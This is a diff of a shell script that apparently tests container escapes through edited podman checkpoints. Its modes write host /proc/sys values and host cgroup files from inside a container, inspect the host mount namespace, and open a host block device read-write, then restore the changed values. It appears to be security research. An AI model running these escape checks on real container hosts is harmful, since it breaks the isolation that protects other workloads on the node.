@@ -15,7 +15,6 @@ for mode in "$@"; do
     sleep 600 & export VICTIM_PID=$!; disown
     echo "host victim process $VICTIM_PID: $(grep -E 'freezer|pids' /proc/$VICTIM_PID/cgroup | tr '\n' ' ') $(grep State /proc/$VICTIM_PID/status)"
   fi
-  if [ $mode = cgns ]; then mkdir -p $D/cgns; echo AAAAAAAA > $D/cgns/cgroup.procs; echo AAAAAAAA > $D/cgns/tasks; fi
   if [ -z "${PROOF_ONLY:-}" ]; then  # import.sh restored it already
     $P $H/edit.py $SRC $mode.tar.zst $mode >/dev/null || { echo "edit failed"; continue; }
     podman rm -f -t 0 attack30e-src >/dev/null 2>&1
@@ -23,7 +22,7 @@ for mode in "$@"; do
   fi
   case $mode in
     nosig) podman exec attack30e-src sh -c 'cat /tmp/count; grep " /proc/sys " /proc/self/mountinfo' 2>&1; echo "exec rc=$?";;
-    procsys*|procmnt|dupro|reparent*|sbro)
+    procsys*|procmnt|dupro|reparent*|sbro|nestns|dotpath)
       PS=/proc/sys; [ $mode = procmnt ] && PS=/mnt/sys
       before=$(cat /proc/sys/kernel/printk_ratelimit)
       podman exec attack30e-src sh -c 'grep " /proc/sys \| /mnt " /proc/self/mountinfo; echo 7 > '$PS'/kernel/printk_ratelimit' 2>&1; echo "exec rc=$?"
@@ -79,8 +78,6 @@ for mode in "$@"; do
       podman exec attack30e-src sh -c "grep -E ' /sys/fs/cgroup/(pids|freezer) | /mnt ' /proc/self/mountinfo; echo 4096 > $in; cat /sys/fs/cgroup/freezer/freezer.state" 2>&1; echo "exec rc=$?"
       now=$(cat $f); echo "host $f: before $before, now $now"; [ "$now" = 4096 ] && echo "HOST CGROUP (conmon's, shared by the node's containers) written from the container"
       echo $before > $f; echo "put back: $(cat $f)";;
-    cgns) podman exec attack30e-src sh -c 'cat /proc/self/cgroup | grep -E "hugetlb|devices"; readlink /proc/self/ns/cgroup' 2>&1; echo "exec rc=$?"
-      echo "host $D/cgns/cgroup.procs now: [$(cat $D/cgns/cgroup.procs)] tasks: [$(cat $D/cgns/tasks)]"; rm -rf $D/cgns;;
     mntdumper) podman exec attack30e-src sh -c 'readlink /proc/self/ns/mnt; grep -E " / | /mnt " /proc/self/mountinfo | head -3; ls / | tr "\n" " "; ls /etc/gpuckpt 2>&1' 2>&1; echo "exec rc=$?"; echo "host mnt ns: $(readlink /proc/self/ns/mnt)";;
     cgdev)
       podman exec attack30e-src sh -c 'grep devices /proc/self/cgroup; ls -la /dev/attack30e-vda; echo "ext4 magic at 1080 of /dev/attack30e-vda: $(head -c 1082 /dev/attack30e-vda | tail -c 2 | od -An -tx1)"; exec 3<>/dev/attack30e-vda && echo "opened /dev/attack30e-vda read-write"' 2>&1; echo "exec rc=$?";;
